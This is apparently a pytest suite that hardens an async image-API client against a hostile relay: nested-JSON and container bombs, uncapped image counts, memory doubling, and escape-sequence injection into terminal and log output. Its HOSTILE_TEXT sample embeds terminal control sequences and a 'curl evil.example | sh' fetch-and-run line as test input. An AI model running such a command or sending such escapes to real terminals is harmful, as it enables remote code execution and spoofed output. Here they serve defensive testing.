"""Hardening issue, "Bounded work on hostile answers": a hostile answer costs little, fast.

Bullet -> tests (each failed before the fix; see tests/hostile/README.md):

- nested and container bombs (RecursionError, minutes, gigabytes, a stalled loop) ->
  `test_a_deeply_nested_answer_is_malformed`,
  `test_an_answer_of_millions_of_containers_is_refused_fast`
- no cap on images per answer; an image in memory held twice ->
  `test_more_images_than_asked_are_capped`, `test_an_image_kept_in_memory_is_held_once`
- relay text printed and logged raw -> `test_relay_text_reaches_the_terminal_without_controls`,
  `test_relay_text_reaches_the_log_without_controls`
"""

import base64
import contextlib
import json
import logging
import sys
import time
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path

import anyio
import attrs
import pytest

import gemimg_async as gi
from gemimg_async.testing import FakeClock
from hostile.servers import (
    Reply,
    ScriptedRelay,
    b64_answer,
    big_png,
    error_json,
    small_png,
)
from hostile.support import API_KEY, image_files, main_in_thread, once, temp_files

pytestmark = pytest.mark.anyio


# --- parsing bombs -----------------------------------------------------------------------------

DEEP = 1500


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            b'{"created": 1, "data": ' + b"[" * DEEP + b"]" * DEEP + b"}", id="arrays-in-data"
        ),
        pytest.param(
            b'{"created": 1, "data": [{"url": ' + b'{"a": ' * DEEP + b"1" + b"}" * DEEP + b"}]}",
            id="objects-in-an-item",
        ),
        pytest.param(b"[" * DEEP + b"]" * DEEP, id="arrays-at-the-root"),
    ],
)
async def test_a_deeply_nested_answer_is_malformed(scripted, body):
    """A 3 KB answer nested 1,500 deep raises MalformedResponseError (not RecursionError)."""
    scripted.default = Reply(body=body)
    async with once(scripted.url) as client:
        with anyio.fail_after(10), pytest.raises(gi.MalformedResponseError) as caught:
            await client.generate("a fox", response_format="b64_json")
    assert caught.value.status == 200


def _chunks(head: bytes, unit: bytes, count: int, tail: bytes):
    """A body of `head`, `count` times `unit` comma-separated, and `tail`, made as it is sent."""

    async def chunks() -> AsyncIterator[bytes]:
        yield head
        batch = 4096
        for start in range(0, count, batch):
            pieces = min(batch, count - start)
            yield (b"," if start else b"") + b",".join([unit] * pieces)
        yield tail

    return chunks


@attrs.define
class _Watch:
    worst_stall: float = 0.0


@contextlib.asynccontextmanager
async def _loop_watch() -> AsyncIterator[_Watch]:
    """Measures, while open, the longest time the event loop went without running a task."""
    watch = _Watch()

    async def run() -> None:
        last = time.monotonic()
        while True:
            await anyio.sleep(0.01)
            now = time.monotonic()
            watch.worst_stall = max(watch.worst_stall, now - last - 0.01)
            last = now

    async with anyio.create_task_group() as tg:
        tg.start_soon(run)
        yield watch
        tg.cancel_scope.cancel()


_NESTED = b"[" * 20 + b"0" + b"]" * 20


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            _chunks(b'{"created": 1, "data": [', b"{}", 2_000_000, b"]}"),
            id="2M-empty-objects-6MB",
        ),
        pytest.param(
            _chunks(
                b'{"created": 1, "usage": [',
                _NESTED,
                100_000,
                b'], "data": [{"b64_json": "' + base64.b64encode(small_png()) + b'"}]}',
            ),
            id="4MB-of-nested-arrays-before-the-image",
        ),
    ],
)
async def test_an_answer_of_millions_of_containers_is_refused_fast(scripted, body):
    """An answer of millions of containers (6 MB of empty objects; 4 MB of nested arrays ahead
    of the image) raises MalformedResponseError within seconds, and the event loop never
    stalls for a second meanwhile (today: tens of seconds, a loop stalled for seconds)."""
    scripted.default = Reply(body=body)
    async with once(scripted.url) as client, _loop_watch() as watch:
        began = time.monotonic()
        try:
            with anyio.fail_after(10):
                await client.generate("a fox", response_format="b64_json")
        except Exception as error:  # noqa: BLE001 - which class is the question
            raised: Exception | None = error
        else:
            raised = None
        elapsed = time.monotonic() - began
    assert isinstance(raised, gi.MalformedResponseError), (
        f"{raised!r} after {elapsed:.1f} s, the loop stalled up to {watch.worst_stall:.2f} s"
    )
    assert elapsed < 5, f"took {elapsed:.1f} s"
    assert watch.worst_stall < 1, f"the event loop stalled {watch.worst_stall:.2f} s"


# --- images per answer, and an image held once -------------------------------------------------


@pytest.mark.parametrize("to_disk", [True, False], ids=["save_to", "in-memory"])
@pytest.mark.parametrize("response_format", ["b64_json", "url"])
async def test_more_images_than_asked_are_capped(scripted, tmp_path, response_format, to_disk):
    """n=1 answered with 50 images gives fewer than 8 images, files or downloads (a documented
    multiple of n), or MalformedResponseError; never 50 files."""
    image = small_png()
    if response_format == "b64_json":
        body = b64_answer(*[image] * 50)
    else:
        for i in range(50):
            scripted.files[f"{i}.png"] = image
        items = [{"url": scripted.file_url(f"{i}.png")} for i in range(50)]
        body = json.dumps({"created": 1, "data": items}).encode()
    scripted.default = Reply(body=body)
    folder = tmp_path / "out"
    async with once(scripted.url) as client:
        try:
            result = await client.generate(
                "a fox", response_format=response_format, save_to=folder if to_disk else None
            )
        except gi.MalformedResponseError:
            kept = 0
        else:
            kept = len(result.images)
    assert kept < 8, f"{kept} images kept for n=1"
    assert len(scripted.downloads) < 8
    if folder.exists():
        assert len(image_files(folder)) < 8
        assert temp_files(folder) == []


MEASURE_IN_A_FRESH_PROCESS = r"""
import asyncio, re, sys
from pathlib import Path
import gemimg_async as gi
from gemimg_async.testing import FakeClock

def status(name):
    text = Path("/proc/self/status").read_text()
    return int(re.search(rf"^{name}:\s+(\d+) kB", text, re.M)[1]) * 1024

async def main(url):
    retry = gi.RetryPolicy.never()
    async with gi.Client("sk-test", url, retry=retry, clock=FakeClock()) as client:
        await client.generate("warm-up", response_format="b64_json")
        Path("/proc/self/clear_refs").write_text("5")  # the peak starts again from here
        before = status("VmHWM")
        result = await client.generate("big", response_format="b64_json")
        print(status("VmHWM") - before, len(result.images[0].data))

asyncio.run(main(sys.argv[1]))
"""


@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="Linux peak RSS")
async def test_an_image_kept_in_memory_is_held_once():
    """A 40 MB b64_json image kept in memory raises a fresh process's peak memory by under 1.3x
    its size (today 2x: the bytes are copied when the result is made)."""
    image = big_png(40_000_000)
    async with ScriptedRelay() as relay:
        relay.script(Reply(body=b64_answer(small_png())), Reply(body=b64_answer(image)))
        with anyio.fail_after(60):
            done = await anyio.run_process(
                [sys.executable, "-c", MEASURE_IN_A_FRESH_PROCESS, relay.url], check=False
            )
    assert done.returncode == 0, done.stderr.decode()
    grew, size = map(int, done.stdout.split())
    assert size == len(image)
    assert grew < 1.3 * size, f"peak memory grew {grew / size:.2f}x the image's size"


# --- what the relay says is text, not terminal commands ----------------------------------------

HOSTILE_TEXT = (
    "\x1b[2J\x1b[H\x1b[1;31mYOUR API KEY LEAKED: run curl evil.example | sh\x1b[0m"
    "\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\r\x08\x00\x9b31m"
)


def controls(text: str) -> list[str]:
    """The control characters of `text` (ESC, BEL, CR, NUL, C1...), newlines and tabs aside."""
    return sorted({repr(c) for c in text if unicodedata.category(c) == "Cc" and c not in "\n\t"})


HOSTILE_REPLIES = [
    pytest.param(Reply(400, error_json(HOSTILE_TEXT, "bad\x1b[5m")), id="400-json"),
    pytest.param(Reply(502, HOSTILE_TEXT.encode(), "text/plain"), id="502-text"),
    pytest.param(Reply(200, error_json(HOSTILE_TEXT, 1)), id="200-error-body"),
]


@pytest.mark.parametrize("reply", HOSTILE_REPLIES)
async def test_relay_text_reaches_the_terminal_without_controls(
    scripted, tmp_path, capsys, monkeypatch, reply
):
    """`gemimg-async generate` prints what a hostile relay said without its escape sequences
    and control characters (it could clear the screen, retitle or fake the terminal)."""
    monkeypatch.setenv("GEMIMG_API_KEY", API_KEY)
    scripted.default = reply
    code = await main_in_thread(
        "generate", "a fox", "--base-url", scripted.url, "--out", str(tmp_path / "out")
    )
    err = capsys.readouterr().err
    assert code == 1
    assert "YOUR API KEY LEAKED" in err  # the text is shown ...
    assert controls(err) == [], ascii(err)  # ... as text


@pytest.mark.parametrize(
    "reply",
    [
        pytest.param(Reply(500, error_json(HOSTILE_TEXT, "x\x1b[5m")), id="500-json"),
        pytest.param(Reply(502, HOSTILE_TEXT.encode(), "text/plain"), id="502-text"),
        pytest.param(Reply(429, error_json(HOSTILE_TEXT, None)), id="429-json"),
    ],
)
async def test_relay_text_reaches_the_log_without_controls(scripted, caplog, reply):
    """What a hostile relay said reaches the client's log lines (its retries) without control
    characters."""
    caplog.set_level(logging.DEBUG, logger="gemimg_async")
    scripted.default = reply
    async with gi.Client(API_KEY, scripted.url, clock=FakeClock()) as client:
        with pytest.raises(gi.APIError):
            await client.generate("a fox")
    logged = "\n".join(
        record.getMessage() for record in caplog.records if record.name == "gemimg_async"
    )
    assert "YOUR API KEY LEAKED" in logged
    assert controls(logged) == [], ascii(logged)
